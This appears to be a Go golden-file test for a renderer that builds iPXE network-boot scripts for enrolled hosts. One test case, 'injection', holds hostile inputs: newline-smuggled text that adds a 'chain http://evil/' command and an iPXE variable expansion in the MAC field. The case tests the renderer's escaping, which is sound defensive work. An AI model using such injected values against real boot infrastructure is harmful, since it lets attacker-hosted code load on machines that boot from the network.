package boot

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"testing"
)

var update = flag.Bool("update", false, "rewrite golden files")

func TestRenderGolden(t *testing.T) {
	cases := map[string]Script{
		"unknown-mac": {MAC: "52:54:00:00:00:99", Reason: "this MAC is not enrolled; see `ironbase host list --state new`"},
		"no-image":    {Host: "n1", MAC: "52:54:00:00:00:01", State: "enrolled", Reason: "pool lab has no promoted image yet"},
		"boot": {Host: "n1", MAC: "52:54:00:00:00:01", Kernel: "http://10.0.0.1:8080/boot/artifacts/sha256/aa",
			Initrd: "http://10.0.0.1:8080/boot/artifacts/sha256/bb", Cmdline: "console=ttyS0 ironbase.server=http://10.0.0.1:8080 ironbase.boot=tok"},
		"injection": {Host: "evil\nshell", MAC: "${net0/mac}", State: "new", Reason: "x\nchain http://evil/"},
	}
	for name, s := range cases {
		t.Run(name, func(t *testing.T) {
			var b bytes.Buffer
			if err := Render(&b, s); err != nil {
				t.Fatal(err)
			}
			path := filepath.Join("testdata", name+".ipxe")
			if *update {
				os.WriteFile(path, b.Bytes(), 0o644)
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run with -update)", err)
			}
			if !bytes.Equal(want, b.Bytes()) {
				t.Errorf("script differs from %s:\n%s", path, b.String())
			}
		})
	}
}
